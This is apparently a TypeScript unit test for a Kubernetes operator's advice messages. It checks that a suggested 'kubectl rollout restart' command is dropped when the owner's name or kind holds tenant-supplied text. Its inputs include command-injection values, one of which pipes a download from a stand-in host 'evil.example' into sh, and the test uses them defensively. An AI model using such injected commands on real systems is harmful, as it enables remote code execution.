import assert from 'node:assert/strict';
import { test } from 'node:test';
import { LABELS } from '../../contract/names.ts';
import { FakeApi, page } from '../../kubernetes/testing/fake-api.ts';
import { MISSED } from './pods.ts';
import { World } from './world.ts';

async function advised(kind: string, name: string): Promise<string> {
  const api = new FakeApi();
  const owner = { apiVersion: 'example.com/v1', kind, name, uid: 'u', controller: true };
  const metadata = {
    namespace: 'tenant',
    name: 'web-1',
    uid: 'u-1',
    labels: { [LABELS.inject]: 'true' },
    ownerReferences: [owner],
  };
  const pod = { metadata, spec: { containers: [] }, status: { phase: 'Running' } };
  api.onList = ({ labelSelector = '' }) => page(labelSelector.includes('!=') ? [pod] : [], '1');
  const world = new World({
    api,
    clock: { now: () => 0, elapsed: () => 0, after: () => () => undefined },
    abort: new AbortController().signal,
    followers: [],
  });
  const { findings } = await MISSED.find(world);
  return findings.map(({ action }) => action).join();
}

test('no command that is advised has a text of a tenant in it', async () => {
  assert.equal(
    await advised('Deployment', 'web'),
    'Delete it, or all at once: kubectl -n tenant rollout restart deployment web',
  );
  assert.equal(await advised('Deployment', 'web; curl -s evil.example|sh'), 'Delete it.');
  assert.equal(await advised('Deployment x; id;', 'web'), 'Delete it.');
  assert.equal(await advised('Job', 'web'), 'Delete it.');
});
